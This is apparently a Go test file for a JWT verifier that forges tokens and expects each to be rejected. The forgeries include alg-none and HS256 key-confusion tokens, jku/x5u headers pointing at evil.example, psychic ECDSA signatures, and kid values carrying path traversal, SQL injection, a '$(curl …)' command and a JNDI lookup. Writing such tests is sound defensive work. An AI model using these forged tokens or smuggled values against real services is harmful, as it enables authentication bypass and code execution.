package introspect_test

import (
	"crypto"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"math/big"
	"slices"
	"strings"
	"time"

	"postern/introspect"
)

// algorithms let the header choose how it is judged.
func (a *attacker) algorithms() []attack {
	good, ec, ed, payload, segments := a.good, a.ec, a.ed, a.payload, a.segments
	none := func(alg string) string {
		return b64(fmt.Sprintf(`{"alg":%q,"kid":"rsa-0"}`, alg)) + "." + segments[1] + "."
	}
	return []attack{
		{"alg none", none("none"), introspect.ErrAlgorithm},
		{"alg None", none("None"), introspect.ErrAlgorithm},
		{"alg NONE", none("NONE"), introspect.ErrAlgorithm},
		{"alg nOnE", none("nOnE"), introspect.ErrAlgorithm},
		{"alg none with a signature", none("none") + segments[2], introspect.ErrAlgorithm},
		{"alg empty", none(""), introspect.ErrAlgorithm},
		{"no alg", good.sign(`{"kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
		{"alg null", good.sign(`{"alg":null,"kid":"rsa-0"}`, payload), introspect.ErrMalformed},
		{"alg a number", good.sign(`{"alg":256,"kid":"rsa-0"}`, payload), introspect.ErrMalformed},
		{"alg in lower case", good.sign(`{"alg":"rs256","kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
		{"alg unknown", good.sign(`{"alg":"RS257","kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
		{"alg of encryption", good.sign(`{"alg":"RSA-OAEP","kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
		{"HS256 with the public key as secret", hs256(`{"alg":"HS256","kid":"rsa-0"}`, payload, publicPEM(good)), introspect.ErrAlgorithm},
		{"HS256 with an empty secret", hs256(`{"alg":"HS256","kid":"rsa-0"}`, payload, nil), introspect.ErrAlgorithm},
		{"RS256 claimed, HS256 made", hs256(good.header(), payload, publicPEM(good)), introspect.ErrSignature},
		{"ES256 with an RSA key's kid", ec.sign(`{"alg":"ES256","kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
		{"RS512 claimed, RS256 made", good.sign(`{"alg":"RS512","kid":"rsa-0"}`, payload), introspect.ErrSignature},
		{"PS256 claimed, RS256 made", good.sign(`{"alg":"PS256","kid":"rsa-0"}`, payload), introspect.ErrSignature},

		{"alg none with spaces", none(" none "), introspect.ErrAlgorithm},
		{"alg none with a NUL", b64(`{"alg":"none\u0000"}`) + "." + segments[1] + ".", introspect.ErrAlgorithm},
		{"alg none, escaped", b64(`{"alg":"\u006eone"}`) + "." + segments[1] + ".", introspect.ErrAlgorithm},
		{"alg with a space after", good.sign(`{"alg":"RS256 ","kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
		{"alg a list", good.sign(`{"alg":["RS256"],"kid":"rsa-0"}`, payload), introspect.ErrMalformed},
		{"alg an object", good.sign(`{"alg":{"":"RS256"},"kid":"rsa-0"}`, payload), introspect.ErrMalformed},
		{"alg true", good.sign(`{"alg":true,"kid":"rsa-0"}`, payload), introspect.ErrMalformed},
		{"alg by its object identifier", good.sign(`{"alg":"1.2.840.113549.1.1.11","kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
		{"ES256K", ec.sign(`{"alg":"ES256K","kid":"ec"}`, payload), introspect.ErrAlgorithm},
		{"Ed25519 for EdDSA", ed.sign(`{"alg":"Ed25519","kid":"ed"}`, payload), introspect.ErrAlgorithm},
		{"ES384 with a key of P-256", ec.sign(`{"alg":"ES384","kid":"ec"}`, payload), introspect.ErrAlgorithm},
		{"ES512 with a key of P-256", ec.sign(`{"alg":"ES512","kid":"ec"}`, payload), introspect.ErrAlgorithm},
		{"RS256 with a curve's kid", good.sign(`{"alg":"RS256","kid":"ec"}`, payload), introspect.ErrAlgorithm},
		{"RS256 with Ed25519's kid", good.sign(`{"alg":"RS256","kid":"ed"}`, payload), introspect.ErrAlgorithm},
		{"EdDSA with a curve's kid", ed.sign(`{"alg":"EdDSA","kid":"ec"}`, payload), introspect.ErrAlgorithm},
		{"HS384 with the public key as secret", hs256(`{"alg":"HS384","kid":"rsa-0"}`, payload, publicPEM(good)), introspect.ErrAlgorithm},
		{"HS512 with the public key as secret", hs256(`{"alg":"HS512","kid":"rsa-0"}`, payload, publicPEM(good)), introspect.ErrAlgorithm},
		{"HS256 with the key set as secret", hs256(`{"alg":"HS256"}`, payload, []byte(setOf(good))), introspect.ErrAlgorithm},
		{"HS256 with the modulus as secret", hs256(`{"alg":"HS256","kid":"rsa-0"}`, payload, rsaKeys()[0].N.Bytes()), introspect.ErrAlgorithm},
		{"HS256 with the curve's key as secret", hs256(`{"alg":"HS256","kid":"ec"}`, payload, publicPEM(ec)), introspect.ErrAlgorithm},
		{"HS256 with the third auth server's key", hs256(`{"alg":"HS256"}`, payload, []byte(sharedByAll.Reveal())), introspect.ErrAlgorithm},
		{"PS256 with the salt left out", pssSigned(good, payload, 0), introspect.ErrSignature},
		{"PS256 with a long salt", pssSigned(good, payload, 64), introspect.ErrSignature},
		{"PBES2 as alg", good.sign(`{"alg":"PBES2-HS256+A128KW","p2c":2147483647,"kid":"rsa-0"}`, payload), introspect.ErrAlgorithm},
	}
}

// keys bring a key, or name one that it should not be.
func (a *attacker) keys() []attack {
	good, other, payload := a.good, a.other, a.payload
	return []attack{
		{"other key under a known kid", signer{"rsa-0", "RS256", other.private}.token(payload), introspect.ErrSignature},
		{"unknown kid", other.token(payload), introspect.ErrKey},
		{"kid a path", good.sign(`{"alg":"RS256","kid":"../../dev/null"}`, payload), introspect.ErrKey},
		{"kid an injection", good.sign(`{"alg":"RS256","kid":"' or 1=1 --"}`, payload), introspect.ErrKey},
		{"kid in another case", good.sign(`{"alg":"RS256","kid":"RSA-0"}`, payload), introspect.ErrKey},
		{"kid a number", good.sign(`{"alg":"RS256","kid":0}`, payload), introspect.ErrMalformed},
		{"kid null", good.sign(`{"alg":"RS256","kid":null}`, payload), introspect.ErrMalformed},
		{"kid too long", good.sign(`{"alg":"RS256","kid":"`+strings.Repeat("k", 600)+`"}`, payload), introspect.ErrMalformed},
		{"no kid, other key", signer{"", "RS256", other.private}.sign(`{"alg":"RS256"}`, payload), introspect.ErrSignature},
		{"own key in jwk", other.sign(`{"alg":"RS256","jwk":`+other.jwk("")+`}`, payload), introspect.ErrSignature},
		{"own keys at jku", other.sign(`{"alg":"RS256","kid":"rsa-1","jku":"https://evil.example/certs"}`, payload), introspect.ErrKey},
		{"own key at x5u", other.sign(`{"alg":"RS256","x5u":"https://evil.example/cert"}`, payload), introspect.ErrSignature},
		{"own certificate in x5c", other.sign(`{"alg":"RS256","x5c":["MIIB"]}`, payload), introspect.ErrSignature},

		{"own keys at jku, under a known kid", a.forged(`,"kid":"rsa-0","jku":"` + a.evil + `/certs"`), introspect.ErrSignature},
		{"own keys at jku on the issuer's host", a.forged(`,"kid":"rsa-1","jku":"` + issuer + `/../certs"`), introspect.ErrKey},
		{"jku of this host", a.forged(`,"jku":"http://127.0.0.1:9485/rest"`), introspect.ErrSignature},
		{"jku of a file", a.forged(`,"jku":"file:///etc/passwd"`), introspect.ErrSignature},
		{"jku a list", a.forged(`,"jku":["` + a.evil + `"]`), introspect.ErrSignature},
		{"own key at x5u of a server", a.forged(`,"x5u":"` + a.evil + `/cert.pem"`), introspect.ErrSignature},
		{"kid an address", a.forged(`,"kid":"` + a.evil + `/certs"`), introspect.ErrKey},
		{"own key in jwk under a known kid", a.forged(`,"kid":"rsa-0","jwk":` + other.jwk("")), introspect.ErrSignature},
		{"own shared key in jwk", hs256(`{"alg":"HS256","jwk":{"kty":"oct","k":"QUFBQQ"}}`, payload, []byte("AAAA")), introspect.ErrAlgorithm},
		{"own certificate in x5c with its thumbprint", a.forged(`,"x5c":["` + x5cOf(other) + `"],"x5t":"` + x5tOf(other) + `"`), introspect.ErrSignature},
		{"thumbprint of an unknown certificate", a.forged(`,"x5t#S256":"` + strings.Repeat("A", 43) + `"`), introspect.ErrSignature},
		{"kid of a device", a.forged(`,"kid":"/dev/null"`), introspect.ErrKey},
		{"kid a path, escaped", a.forged(`,"kid":"..\u002f..\u002fetc\u002fpasswd"`), introspect.ErrKey},
		{"kid a path of Windows", a.forged(`,"kid":"..\\..\\windows\\win.ini"`), introspect.ErrKey},
		{"kid a union of SQL", a.forged(`,"kid":"x' UNION SELECT 'AAAA' -- "`), introspect.ErrKey},
		{"kid a command", a.forged(`,"kid":"$(curl ` + a.evil + `)"`), introspect.ErrKey},
		{"kid a look-up", a.forged(`,"kid":"${jndi:ldap://evil.example/a}"`), introspect.ErrKey},
		{"kid a template", a.forged(`,"kid":"{{7*7}}"`), introspect.ErrKey},
		{"kid with a line end", a.forged(`,"kid":"rsa-0\nx"`), introspect.ErrKey},
		{"kid with a NUL", a.forged(`,"kid":"rsa-0\u0000"`), introspect.ErrKey},
		{"kid with a space after", a.forged(`,"kid":"rsa-0 "`), introspect.ErrKey},
		{"kid a wildcard", a.forged(`,"kid":"*"`), introspect.ErrKey},
		{"kid a list", a.forged(`,"kid":["rsa-0"]`), introspect.ErrMalformed},
		{"kid an object", a.forged(`,"kid":{"$ne":1}`), introspect.ErrMalformed},
		{"kid true", a.forged(`,"kid":true`), introspect.ErrMalformed},
		{"kid of 512 bytes", a.forged(`,"kid":"` + strings.Repeat("k", 512) + `"`), introspect.ErrKey},
		{"kid twice", a.forged(`,"kid":"rsa-1","kid":"rsa-0"`), introspect.ErrMalformed},
		{"KID beside kid", a.forged(`,"kid":"rsa-1","KID":"rsa-0"`), introspect.ErrMalformed},
		{"kid with a Kelvin sign", a.forged(`,"\u212aid":"rsa-0"`), introspect.ErrMalformed},
		{"kid __proto__", a.forged(`,"kid":"__proto__"`), introspect.ErrKey},
		{"the signature of another algorithm", b64(a.ec.header()) + "." + b64(payload) + "." + a.segments[2], introspect.ErrSignature},
		{"psychic signature, r zero", psychic(a.ec, payload, 0, 1), introspect.ErrSignature},
		{"psychic signature, s zero", psychic(a.ec, payload, 1, 0), introspect.ErrSignature},
		{"signature r and s of the order", ordered(a.ec, payload), introspect.ErrSignature},
		{"Ed25519 signature with s beyond the order", beyondOrder(a.ed, payload), introspect.ErrSignature},
		{"Ed25519 signature of zeros", b64(a.ed.header()) + "." + b64(payload) + "." + b64(strings.Repeat("\x00", 64)), introspect.ErrSignature},
		{"RSA signature of zeros", a.segments[0] + "." + a.segments[1] + "." + b64(strings.Repeat("\x00", 256)), introspect.ErrSignature},
		{"RSA signature of one", a.segments[0] + "." + a.segments[1] + "." + b64(strings.Repeat("\x00", 255)+"\x01"), introspect.ErrSignature},
		{"RSA signature above the modulus", a.segments[0] + "." + a.segments[1] + "." + b64(strings.Repeat("\xff", 256)), introspect.ErrSignature},
	}
}

// pssSigned is PS256 with a salt of another length.
func pssSigned(s signer, payload string, salt int) string {
	text := b64(s.as("PS256").header()) + "." + b64(payload)
	digest := sha256.Sum256([]byte(text))
	if salt == 0 {
		// To Go zero is the longest possible; the shortest that can be said is one byte.
		salt = 1
	}
	options := &rsa.PSSOptions{SaltLength: salt}
	return text + "." + b64(string(must(rsa.SignPSS(rand.Reader, s.private.(*rsa.PrivateKey), crypto.SHA256, digest[:], options))))
}

func x5cOf(s signer) string {
	return base64.StdEncoding.EncodeToString(certificateOf(s, time.Unix(0, 0), at).Raw)
}

func x5tOf(s signer) string {
	x5t, _ := thumbprints(certificateOf(s, time.Unix(0, 0), at))
	return x5t
}

// psychic is an ES256 signature of two small numbers.
func psychic(s signer, payload string, r, second byte) string {
	signature := make([]byte, 64)
	signature[31], signature[63] = r, second
	return b64(s.header()) + "." + b64(payload) + "." + b64(string(signature))
}

// ordered is an ES256 signature of numbers that are zero modulo the order.
func ordered(s signer, payload string) string {
	n := string(elliptic.P256().Params().N.Bytes())
	return b64(s.header()) + "." + b64(payload) + "." + b64(n+n)
}

// beyondOrder adds the order of the group to the number of a valid Ed25519
// signature, which changes its bytes and not what it proves.
func beyondOrder(s signer, payload string) string {
	valid := s.token(payload)
	dot := strings.LastIndexByte(valid, '.')
	signature := must(base64.RawURLEncoding.DecodeString(valid[dot+1:]))
	order, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	sum := new(big.Int).Add(littleEndian(signature[32:]), order)
	sum.FillBytes(signature[32:])
	slices.Reverse(signature[32:])
	return valid[:dot+1] + b64(string(signature))
}

func littleEndian(b []byte) *big.Int {
	reversed := []byte(string(b))
	slices.Reverse(reversed)
	return new(big.Int).SetBytes(reversed)
}
